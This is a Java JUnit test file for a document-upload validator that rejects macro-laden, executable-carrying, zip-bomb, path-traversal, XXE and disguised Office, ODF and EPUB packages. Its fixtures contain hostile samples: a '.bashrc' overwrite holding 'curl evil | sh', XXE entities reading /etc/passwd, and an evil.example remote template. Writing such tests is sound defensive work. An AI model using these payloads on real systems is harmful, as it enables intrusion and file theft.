package com.mediaflow.shared.validation;

import static com.mediaflow.shared.validation.DocumentFixtures.docm;
import static com.mediaflow.shared.validation.DocumentFixtures.docx;
import static com.mediaflow.shared.validation.DocumentFixtures.epub;
import static com.mediaflow.shared.validation.DocumentFixtures.odf;
import static com.mediaflow.shared.validation.DocumentFixtures.odt;
import static com.mediaflow.shared.validation.DocumentFixtures.ole;
import static com.mediaflow.shared.validation.DocumentFixtures.pptx;
import static com.mediaflow.shared.validation.DocumentFixtures.rels;
import static com.mediaflow.shared.validation.DocumentFixtures.xlsx;
import static org.assertj.core.api.Assertions.assertThat;

import com.mediaflow.shared.error.ReasonCode;
import com.mediaflow.shared.format.MediaFormat;
import com.mediaflow.shared.validation.io.ArrayByteSource;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Office documents, ODF and EPUB through the whole validator: detection, the package checks, the verdict. */
class DocumentValidationTest {
    private final StructureValidator validator = new StructureValidator(Limits.DEFAULTS);

    private Verdict verdict(byte[] bytes, String type, String name) {
        return validator.validate(new ArrayByteSource(bytes), type, name).verdict();
    }

    private Verdict verdict(byte[] bytes, String name) {
        return verdict(bytes, null, name);
    }

    private static List<ReasonCode> errors(Verdict v) {
        return v.reasons().stream().filter(Reason::rejects).map(Reason::code).toList();
    }

    private static List<ReasonCode> warnings(Verdict v) {
        return v.reasons().stream().filter(r -> !r.rejects()).map(Reason::code).toList();
    }

    @Test
    void minimalValidPackagesOfEveryKind_areAcceptedAsTheirFormat() {
        assertAccepted(docx().zip(), "report.docx", MediaFormat.DOCX);
        assertAccepted(xlsx().zip(), "budget.xlsx", MediaFormat.XLSX);
        assertAccepted(pptx().zip(), "deck.pptx", MediaFormat.PPTX);
        assertAccepted(odt().zip(), "minutes.odt", MediaFormat.ODT);
        assertAccepted(odf("application/vnd.oasis.opendocument.spreadsheet", "<office:spreadsheet/>").zip(), "s.ods", MediaFormat.ODS);
        assertAccepted(odf("application/vnd.oasis.opendocument.presentation", "<office:presentation/>").zip(), "p.odp", MediaFormat.ODP);
        assertAccepted(epub().zip(), "book.epub", MediaFormat.EPUB);
    }

    private void assertAccepted(byte[] bytes, String name, MediaFormat format) {
        Verdict v = verdict(bytes, format.mimeType(), name);
        assertThat(v.reasons()).as(name).isEmpty();
        assertThat(v.accepted()).as(name).isTrue();
        assertThat(v.detected()).as(name).isEqualTo(format);
    }

    @Test
    void docm_isDetectedAsMacroEnabled_andQuarantinedForItsMacros() {
        Verdict v = verdict(docm().zip(), "invoice.docm");
        assertThat(v.detected()).isEqualTo(MediaFormat.DOCM);
        assertThat(errors(v)).containsExactly(ReasonCode.DOCUMENT_MACROS);
        assertThat(v.reasons().get(0).message()).contains("macro-enabled content type");
    }

    @Test
    void docxWithAVbaProjectSmuggledIn_isQuarantinedForMacros() {
        // given a .docx content type, but a vbaProject.bin part anyway
        Verdict v = verdict(docx().put("word/vbaProject.bin", ole(new byte[64])).zip(), "report.docx");
        assertThat(errors(v)).containsExactly(ReasonCode.DOCUMENT_MACROS);
        assertThat(v.reasons().get(0).message()).contains("word/vbaProject.bin");
    }

    @Test
    void xlsmContentTypeOnAnotherPart_isQuarantinedForMacros() {
        byte[] xlsx = DocumentFixtures.ooxml("xl/workbook.xml", DocumentFixtures.XLSX_MAIN, "<workbook/>",
                "/xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml").zip();
        assertThat(errors(verdict(xlsx, "a.xlsx"))).containsExactly(ReasonCode.DOCUMENT_MACROS);
    }

    @Test
    void odtWithABasicModuleOrAScript_isQuarantinedForMacros_butItsEmptyLibraryIndexIsNot() {
        assertThat(errors(verdict(odt().put("Basic/Standard/Module1.xml", "<script:module/>").zip(), "m.odt")))
                .containsExactly(ReasonCode.DOCUMENT_MACROS);
        assertThat(errors(verdict(odt().put("Scripts/python/evil.py", "import os").zip(), "m.odt")))
                .containsExactly(ReasonCode.DOCUMENT_MACROS);
        assertThat(verdict(odt().put("Basic/script-lc.xml", "<library:libraries/>").zip(), "m.odt").reasons()).isEmpty();
    }

    @Test
    void embeddedOleObjectHoldingAnExecutable_isQuarantined() {
        byte[] doc = docx().put("word/embeddings/oleObject1.bin", ole(DocumentFixtures.peImage())).zip();
        Verdict v = verdict(doc, "report.docx");
        assertThat(errors(v)).containsExactly(ReasonCode.DOCUMENT_EMBEDDED_EXECUTABLE);
        assertThat(v.reasons().get(0).message()).contains("word/embeddings/oleObject1.bin").contains("executable image");
    }

    @Test
    void packagerObjectCarryingABatchFile_isQuarantined() {
        byte[] doc = docx().put("word/embeddings/oleObject1.bin", DocumentFixtures.packagerObject("invoice.pdf.bat")).zip();
        Verdict v = verdict(doc, "report.docx");
        assertThat(errors(v)).containsExactly(ReasonCode.DOCUMENT_EMBEDDED_EXECUTABLE);
        assertThat(v.reasons().get(0).message()).contains("invoice.pdf.bat");
    }

    @Test
    void rawExecutableAnywhereInThePackage_isQuarantined() {
        byte[] doc = odt().put("Pictures/cat.png", DocumentFixtures.peImage()).zip();
        assertThat(errors(verdict(doc, "minutes.odt"))).containsExactly(ReasonCode.DOCUMENT_EMBEDDED_EXECUTABLE);
    }

    @Test
    void harmlessOleObject_isAWarningOnly() {
        Verdict v = verdict(docx().put("word/embeddings/oleObject1.bin", ole("equation".getBytes())).zip(), "report.docx");
        assertThat(v.accepted()).isTrue();
        assertThat(warnings(v)).containsExactly(ReasonCode.DOCUMENT_EMBEDDED_OBJECT);
    }

    @Test
    void embeddedWorkbook_isCheckedAsAPackage_cleanOneAcceptedAndOneWithMacrosQuarantined() {
        byte[] chart = docx().put("word/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx().zip()).zip();
        assertThat(verdict(chart, "chart.docx").reasons()).isEmpty();

        byte[] xlsm = DocumentFixtures.ooxml("xl/workbook.xml", DocumentFixtures.XLSM_MAIN, "<workbook/>").zip();
        Verdict v = verdict(docx().put("word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm", xlsm).zip(), "chart.docx");
        assertThat(errors(v)).containsExactly(ReasonCode.DOCUMENT_MACROS);
        assertThat(v.reasons().get(0).message()).contains("DOCX > word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm");
    }

    @Test
    void packagesNestedDeeperThanTheLimit_areDepthLimit() {
        byte[] inner = docx().zip();
        for (int i = 0; i < 3; i++) {
            inner = docx().put("word/embeddings/nested.docx", inner).zip();
        }
        assertThat(errors(verdict(inner, "deep.docx"))).containsExactly(ReasonCode.DEPTH_LIMIT);
    }

    @Test
    void remoteTemplateAndHyperlink_areOneExternalLinkWarning() {
        byte[] doc = docx().put("word/_rels/settings.xml.rels", rels("attachedTemplate", "https://evil.example/t.dotm", "External"))
                .put("word/_rels/document.xml.rels", rels("hyperlink", "https://example.com/", "External")).zip();
        Verdict v = verdict(doc, "report.docx");
        assertThat(v.accepted()).isTrue();
        assertThat(warnings(v)).containsExactly(ReasonCode.DOCUMENT_EXTERNAL_LINK);
        assertThat(v.reasons().get(0).message()).contains("(2)").contains("attachedTemplate -> https://evil.example/t.dotm")
                .contains("hyperlink -> https://example.com/");
    }

    @Test
    void odtLinkingAnImageOnTheWeb_isAnExternalLinkWarning() {
        byte[] doc = odf("application/vnd.oasis.opendocument.text",
                "<office:text><text:a xlink:href=\"http://tracker.example/pixel.png\">x</text:a></office:text>").zip();
        assertThat(warnings(verdict(doc, "m.odt"))).containsExactly(ReasonCode.DOCUMENT_EXTERNAL_LINK);
    }

    @Test
    void zipBombDocx_isArchiveLimit() {
        byte[] bomb = docx().put("word/media/image1.xml", new byte[100 * 1024 * 1024]).zip();
        Verdict v = verdict(bomb, "report.docx");
        assertThat(errors(v)).containsExactly(ReasonCode.ARCHIVE_LIMIT);
        assertThat(v.reasons().get(0).message()).contains("zip bomb");
    }

    @Test
    void docxWithAPathThatClimbsOut_isArchivePathUnsafe() {
        Verdict v = verdict(docx().put("../../../home/user/.bashrc", "curl evil | sh").zip(), "report.docx");
        assertThat(errors(v)).containsExactly(ReasonCode.ARCHIVE_PATH_UNSAFE);
    }

    @Test
    void missingRequiredParts_areStructureInvalid() {
        assertThat(errors(verdict(docx().put("word/document.xml", (String) null).zip(), "a.docx")))
                .containsExactly(ReasonCode.STRUCTURE_INVALID);
        assertThat(errors(verdict(docx().put("_rels/.rels", (String) null).zip(), "a.docx")))
                .containsExactly(ReasonCode.STRUCTURE_INVALID);
        assertThat(errors(verdict(odt().put("META-INF/manifest.xml", (String) null).zip(), "a.odt")))
                .containsExactly(ReasonCode.STRUCTURE_INVALID);
        assertThat(errors(verdict(epub().put("OEBPS/content.opf", (String) null).zip(), "a.epub")))
                .containsExactly(ReasonCode.STRUCTURE_INVALID);
    }

    @Test
    void contentTypesWithADoctype_isStructureInvalid_noEntityExpanded() {
        String xxe = "<?xml version=\"1.0\"?><!DOCTYPE t [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><Types>&x;</Types>";
        byte[] doc = docx().put("[Content_Types].xml", xxe).put("word/document.xml", "<w:document/>").zip();
        // detected by its word/ parts, then refused by the hardened XML reader
        Verdict plain = verdict(doc, "a.docx");
        assertThat(errors(plain)).containsExactly(ReasonCode.STRUCTURE_INVALID);
        assertThat(plain.reasons().get(0).message()).contains("DOCTYPE").doesNotContain("root:");
        String xxe2 = DocumentFixtures.contentTypes("word/document.xml", DocumentFixtures.DOCX_MAIN).replace("<Types",
                "<!DOCTYPE Types [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><Types");
        Verdict v = verdict(docx().put("[Content_Types].xml", xxe2).zip(), "a.docx");
        assertThat(errors(v)).containsExactly(ReasonCode.STRUCTURE_INVALID);
        assertThat(v.reasons().get(0).message()).contains("DOCTYPE");
    }

    @Test
    void odfWhoseMimetypeIsNotFirstOrIsCompressed_staysABareZip() {
        byte[] notFirst = new DocumentFixtures.Package().put("content.xml", "<x/>")
                .putStored("mimetype", "application/vnd.oasis.opendocument.text").zip();
        assertThat(errors(verdict(notFirst, "a.odt"))).containsExactly(ReasonCode.ARCHIVE_DISGUISED);
        byte[] compressed = new DocumentFixtures.Package().put("mimetype", "application/vnd.oasis.opendocument.text")
                .put("content.xml", "<x/>").zip();
        assertThat(errors(verdict(compressed, "a.odt"))).containsExactly(ReasonCode.ARCHIVE_DISGUISED);
    }

    @Test
    void docxNamedAsAPhoto_isTypeMismatch_likeEveryOtherLie() {
        assertThat(errors(verdict(docx().zip(), "image/jpeg", "holiday.jpg"))).containsExactly(ReasonCode.TYPE_MISMATCH,
                ReasonCode.TYPE_MISMATCH);
        assertThat(errors(verdict(docx().zip(), null, "holiday.jpg"))).containsExactly(ReasonCode.TYPE_MISMATCH);
        // another document type is how a chat app would open it anyway: not a lie that matters
        assertThat(verdict(docx().zip(), "application/pdf", "report.pdf").accepted()).isTrue();
    }

    @Test
    void bareZipJarAndApk_stayRefused() {
        assertThat(errors(verdict(new DocumentFixtures.Package().put("photos/a.txt", "x").zip(), "a.docx")))
                .containsExactly(ReasonCode.ARCHIVE_DISGUISED);
        assertThat(errors(verdict(docx().put("META-INF/MANIFEST.MF", "Main-Class: A").zip(), "a.docx")))
                .containsExactly(ReasonCode.ARCHIVE_DISGUISED);
        assertThat(errors(verdict(new DocumentFixtures.Package().put("AndroidManifest.xml", "x").put("classes.dex", "dex").zip(), "a.docx")))
                .containsExactly(ReasonCode.ARCHIVE_DISGUISED);
    }

    @Test
    void dataAppendedAfterThePackage_isRejected() {
        byte[] doc = docx().zip();
        byte[] glued = java.util.Arrays.copyOf(doc, doc.length + 4);
        assertThat(verdict(glued, "a.docx").accepted()).isFalse();
    }

    @Test
    void packagesWrittenByAnotherWriter_pythonsZipfile_getTheSameVerdicts() throws java.io.IOException {
        // given the fuzz seeds, written by Python's zipfile (sizes in the local headers, no data
        // descriptors; some parts stored) rather than java.util.zip
        java.nio.file.Path dir = java.nio.file.Path.of(
                "src/test/resources/com/mediaflow/shared/validation/internal/parsers/PackageParserFuzzTestInputs/parse");
        java.util.function.Function<String, Verdict> seed = name -> {
            try {
                return verdict(java.nio.file.Files.readAllBytes(dir.resolve(name)), name);
            } catch (java.io.IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        };

        // then
        assertThat(warnings(seed.apply("docx-minimal.docx"))).containsExactly(ReasonCode.DOCUMENT_EXTERNAL_LINK);
        assertThat(errors(seed.apply("docm-vba.docm"))).containsExactly(ReasonCode.DOCUMENT_MACROS);
        assertThat(errors(seed.apply("docx-ole-object.docx"))).containsExactly(ReasonCode.DOCUMENT_EMBEDDED_EXECUTABLE);
        assertThat(seed.apply("docx-embedded-xlsx.docx").reasons()).isEmpty();
        assertThat(warnings(seed.apply("odt-minimal.odt"))).containsExactly(ReasonCode.DOCUMENT_EXTERNAL_LINK);
        Verdict book = seed.apply("epub-minimal.epub");
        assertThat(book.reasons()).isEmpty();
        assertThat(book.detected()).isEqualTo(MediaFormat.EPUB);
    }
}
